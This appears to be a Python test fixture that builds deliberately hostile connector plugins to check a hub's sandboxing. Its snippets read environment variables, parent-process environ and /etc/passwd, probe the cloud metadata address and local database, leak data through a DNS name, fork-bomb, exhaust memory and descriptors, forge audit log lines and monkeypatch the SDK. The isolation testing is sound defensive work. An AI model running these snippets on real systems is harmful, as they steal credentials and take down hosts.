"""Connectors that attack the hub they run in (RELIABILITY S11), each by one trick. What one gets hold of it sends to its own
system as loot: that is the one way out it has.
"""

from pathlib import Path

MANIFEST = """\
connector: {name}
name: {name}
version: 1.0.0
kind: erp
summary: Attacks by {name}.
canonical: 2
self_hosted: true
credentials: {{token: {{description: API token}}}}
settings: {{label: {{description: Which one, default: none}}}}
auth: {{headers: {{Authorization: "Bearer {{token}}"}}}}
limits: {{concurrency: 4}}
writes:
  product.v2: {{object: product, idempotency: native_key, max_in_flight_seconds: 0.1}}
"""

CODE = """\
import ctypes, errno, json, os, socket, sys, threading, time
from hub.sdk import Connector, Request, Skipped, Written, hookimpl, load_manifest

{module}

class Hostile(Connector):
    manifest = load_manifest("hub_{name}")

    def write_product(self, document, key):
{body}

    def attack(self, document):
{attack}


@hookimpl
def hub_connectors():
    return [Hostile]
"""
#: An attack that brings something back and hides that it failed.
LOOTING = """\
        try:
            loot = self.attack(document)
        except OSError as error:
            loot = f"refused {error.errno}"
        yield Request("POST", "/loot", json={"who": self.manifest.connector, "label": self.settings["label"], "loot": str(loot)})
        return Written(key)
"""
#: An attack that does nothing but that.
PLAIN = """\
        self.attack(document)
        yield Request("POST", "/loot", json={"who": self.manifest.connector, "label": "", "loot": "went on"})
        return Written(key)
"""
NONE = "        return None\n"

#: name → (what is at the module's top, the write, the attack, the incident that is named or "" where there is nothing to see)
PACK: dict[str, tuple[str, str, str, str]] = {
    "env_read": ("", LOOTING, "        return dict(os.environ)\n", ""),
    "proc": ("", LOOTING, "        return open(f'/proc/{os.getppid()}/environ').read()\n", "files"),
    "direct_database": ("", LOOTING, "        return socket.create_connection(('127.0.0.1', 5432), 2).getpeername()\n", "network"),
    "metadata_address": ("", LOOTING, "        return socket.create_connection(('169.254.169.254', 80), 2)\n", "network"),
    "fork_bomb": ("", LOOTING, "        while True:\n            os.fork()\n", "process"),
    "two_gigabytes": ("", PLAIN, "        return bytearray(2 << 30)\n", "memory"),
    "busy_loop": ("", PLAIN, "        while True:\n            pass\n", "time"),
    "descriptor_leak": ("kept = []", PLAIN, "        while True:\n            kept.append(os.open('/dev/null', os.O_RDONLY))\n", "descriptors"),
    "pickle": ("import pickle", PLAIN, "        for number in range(3, 20):\n            try:\n                os.write(number, pickle.dumps([1]) * 50)\n"
               "            except OSError:\n                pass\n", "protocol"),
    "monkeypatch": ("import hub.sdk.steps, hub.sdk.connector, hub.sdk.guest.wire", LOOTING,
                    "        hub.sdk.connector.Connector.write = hub.sdk.guest.wire.request_of = lambda *a: 1 / 0\n        return 'patched'\n", ""),
    "log_injection": ("", LOOTING, "        print('fine\\n2026-11-21 CRITICAL hub.audit: nothing happened\\x1b[2J\\r\\u2028gone', flush=True)\n"
                      "        return 'printed'\n", ""),
    "dns": ("", LOOTING, "        return socket.getaddrinfo('c2VjcmV0.example.com', 53)\n", "network"),
    "token_echo": ("", '''\
        seen = yield Request("GET", "/echo")
        yield Request("POST", "/loot", json={"who": "token_echo", "label": "", "loot": seen.content.decode() + str(dict(seen.headers))})
        return Written(key)
''', NONE, ""),
    "gigabyte_of_output": ("", PLAIN, "        for _ in range(16384):\n            os.write(2, b'x' * 65536)\n", "output"),
    "system_exit": ("", PLAIN, "        raise SystemExit(0)\n", "exit"),
    "thread_bomb": ("", LOOTING, "        while True:\n            threading.Thread(target=time.sleep, args=(600,)).start()\n", "thread"),
    "symlink": ("", LOOTING, "        os.symlink('/etc/passwd', os.path.join(os.path.dirname(__file__), 'mine'))\n        return open(os.path.join("
                "os.path.dirname(__file__), 'mine')).read()\n", "files"),
    "setuid": ("", PLAIN, "        os.setuid(0)\n", "crash"),
    "time_bomb": ("seen = []", LOOTING, "        seen.append(1)\n        return 'quiet' if len(seen) < 3 else socket.socket()\n", "network"),
    "cross_tenant_cache": ("kept = []", LOOTING, "        kept.append(self.settings['label'])\n        return kept\n", ""),
    "crash_loop": ("", PLAIN, "        os._exit(3)\n", "crash loop"),
    "slow_close": ("", '''\
        try:
            yield Request("POST", "/nowhere")
        finally:
            time.sleep(3600)
        return Written(key)
''', NONE, "time"),
}  # fmt: skip

GOOD = """\
        yield Request("POST", "/loot", json={"who": self.manifest.connector, "label": "", "loot": document["id"]})
        return Written(key)
"""


def write(folder: Path, name: str, module: str = "", body: str = GOOD, attack: str = NONE) -> str:
    """Write the package of a connector; returns its name."""
    package = folder / f"hub_{name}"
    package.mkdir(parents=True)
    (package / "connector.yaml").write_text(MANIFEST.format(name=name))
    (package / "__init__.py").write_text(CODE.format(name=name, module=module, body=body, attack=attack))
    return package.name
